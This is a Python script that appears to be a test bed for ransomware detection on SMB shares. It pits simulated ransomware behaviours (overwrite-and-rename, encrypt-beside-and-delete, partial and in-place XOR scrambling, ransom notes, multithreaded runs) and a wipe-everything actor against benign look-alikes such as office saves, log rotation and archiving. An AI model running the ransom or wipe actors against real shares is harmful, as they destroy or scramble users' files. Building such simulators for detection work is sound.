#!/usr/bin/env python3
"""Who works on a share, from inside a host of the bed: a program that encrypts in several manners, and the honest programs that look like it.

    actors.py ACTOR SERVER SHARE USER PASSWORD [key=value ...]

It speaks SMB by a library of its own (`smbprotocol`), so what is on the wire is what such a program sends. Each file destroyed is told on
standard output as `lost TIME NAME`.
"""
import os
import random
import sys
import threading
import time
import zlib

import smbclient

NOTE = "Your files are encrypted.\r\nWrite to the address below within 72 hours.\r\n"


class Share:
    def __init__(self, server, share, user, password, encrypt):
        self.root = rf"\\{server}\{share}"
        smbclient.register_session(server, username=user, password=password, encrypt=encrypt, auth_protocol="ntlm")

    def path(self, *parts):
        return "\\".join([self.root, *parts])

    def files(self, top=""):
        """Every file below a directory, as a walk of it finds them."""
        base = self.path(top) if top else self.root
        for where, below, names in smbclient.walk(base):
            below.sort()
            for name in sorted(names):
                yield f"{where.rstrip(chr(92))}\\{name}"

    def read(self, path):
        with smbclient.open_file(path, mode="rb", share_access="rwd") as f:
            return f.read()

    def write(self, path, data, mode="wb"):
        with smbclient.open_file(path, mode=mode, share_access="rwd") as f:
            f.write(data)


def scrambled(data, seed=7):
    return bytes(a ^ b for a, b in zip(data, random.Random(seed).randbytes(len(data))))


def lost(path):
    print(f"lost {time.time():.6f} {path}", flush=True)


def overwrite(s, path, ending):
    """Read, write back in place, rename."""
    data = s.read(path)
    s.write(path, scrambled(data), "rb+")
    smbclient.rename(path, path + ending)


def beside(s, path, ending):
    """Read, write the encrypted text beside it, delete the original."""
    data = s.read(path)
    s.write(path + ending, scrambled(data))
    smbclient.remove(path)


def partial(s, path, ending):
    """Every second block of 4 KiB only, and no more than is needed to spoil the file; renamed first."""
    smbclient.rename(path, path + ending)
    with smbclient.open_file(path + ending, mode="rb+", share_access="rwd", buffering=0) as f:
        size = f.seek(0, 2)
        for at in range(0, min(size, 1 << 16), 8192):
            f.seek(at)
            block = f.read(min(4096, size - at))
            f.seek(at)
            f.write(scrambled(block))


def in_place(s, path, _):
    """Overwritten under its own name: nothing is renamed and nothing deleted."""
    data = s.read(path)
    s.write(path, scrambled(data), "rb+")


STYLES = {"overwrite": overwrite, "beside": beside, "partial": partial, "in-place": in_place}


def ransom(s, more):
    style, ending, pause = STYLES[more.get("style", "overwrite")], more.get("ending", ".lockd"), float(more.get("pause", 0))
    limit, notes = int(more.get("limit", 1000)), more.get("note", "README_TO_RESTORE.txt")
    todo = [p for p in s.files(more.get("top", "")) if not p.endswith((ending, notes))][:limit]
    noted = set()

    def work(part):
        for path in part:
            where = path.rsplit("\\", 1)[0]
            if where not in noted and notes != "none":
                noted.add(where)
                s.write(f"{where}\\{notes}", NOTE.encode())
            style(s, path, ending)
            lost(path)
            time.sleep(pause)

    threads = int(more.get("threads", 1))
    workers = [threading.Thread(target=work, args=(todo[n::threads],)) for n in range(threads)]
    [w.start() for w in workers]
    [w.join() for w in workers]


def wipe(s, more):
    """Deletes all there is, the newest last."""
    for path in list(s.files(more.get("top", ""))):
        smbclient.remove(path)
        lost(path)
        time.sleep(float(more.get("pause", 0)))


def office(s, more):
    """A word processor's way to save: lock file, temporary file, the old one aside, the new one in its place, the old one away."""
    documents = [p for p in s.files(more.get("top", "")) if p.endswith((".docx", ".xlsx"))][: int(more.get("limit", 8))]
    for n, path in enumerate(documents):
        where, name = path.rsplit("\\", 1)
        owner, temporary, old = f"{where}\\~${name[2:]}", f"{where}\\~WRD{n:04d}.tmp", f"{where}\\~WRL{n:04d}.tmp"
        s.write(owner, b"\x08Sato    " + bytes(150))
        data = s.read(path)
        for _ in range(2):
            time.sleep(float(more.get("pause", 0.4)))
            data = packed(data + os.urandom(200))
            s.write(temporary, data)
            smbclient.rename(path, old)
            smbclient.rename(temporary, path)
            smbclient.remove(old)
        smbclient.remove(owner)


def packed(data):
    """An office document is a zip archive: its bytes look random, its first four do not."""
    return b"PK\x03\x04\x14\x00\x06\x00" + zlib.compress(data, 9)


def antivirus(s, more):
    """Opens every file, reads its head, and the whole of it if it may be a program or a document."""
    for path in s.files(more.get("top", "")):
        with smbclient.open_file(path, mode="rb", share_access="rwd") as f:
            f.read(4096)
            f.read()


def move(s, more):
    """Last year's files go to the archive's directory."""
    smbclient.makedirs(s.path("archive", "2025"), exist_ok=True)
    for path in list(s.files(more["top"])):
        smbclient.rename(path, s.path("archive", "2025", path.rsplit("\\", 1)[1]))


def mirror(s, more):
    """Brings a directory over: what is missing or has another size."""
    from pathlib import Path
    far = {e.name: e.stat() for e in smbclient.scandir(s.root)}
    for p in sorted(Path(more["source"]).iterdir()):
        here, there = p.stat(), far.get(p.name)
        if there is None or there.st_size != here.st_size:
            s.write(s.path(p.name), p.read_bytes())


def rotate(s, more):
    """Logs: the newest is packed, the others get the next number, the oldest goes."""
    names = [p for p in s.files(more["top"]) if p.endswith(".log")]
    for path in names:
        data = s.read(path)
        for n in (3, 2, 1):
            if smbclient.path.exists(f"{path}.{n}.gz"):
                smbclient.rename(f"{path}.{n}.gz", f"{path}.{n + 1}.gz")
        s.write(f"{path}.1.gz", b"\x1f\x8b\x08\x00" + zlib.compress(data, 9))
        smbclient.remove(path)
        s.write(path, b"log opened\r\n")


def pack_each(s, more):
    """A nightly job packs each old report for itself and removes it once the archive stands."""
    import io
    import zipfile
    for path in [p for p in s.files(more["top"]) if p.endswith((".txt", ".csv"))]:
        data, out = s.read(path), io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
            z.writestr(path.rsplit("\\", 1)[1], data)
        s.write(path.rsplit(".", 1)[0] + ".zip", out.getvalue())
        smbclient.remove(path)


def convert(s, more):
    """Pictures are made smaller in place: read, written anew under the same name, still pictures."""
    for path in [p for p in s.files(more["top"]) if p.endswith(".jpg")]:
        data = s.read(path)
        s.write(path, data[: len(data) * 3 // 4])


ACTORS = {"ransom": ransom, "wipe": wipe, "office": office, "antivirus": antivirus, "move": move, "mirror": mirror, "rotate": rotate, "pack-each": pack_each,
          "convert": convert}

if __name__ == "__main__":
    actor, server, share, user, password, *rest = sys.argv[1:]
    options = dict(o.split("=", 1) for o in rest)
    ACTORS[actor](Share(server, share, user, password, options.get("encrypt") == "yes"), options)
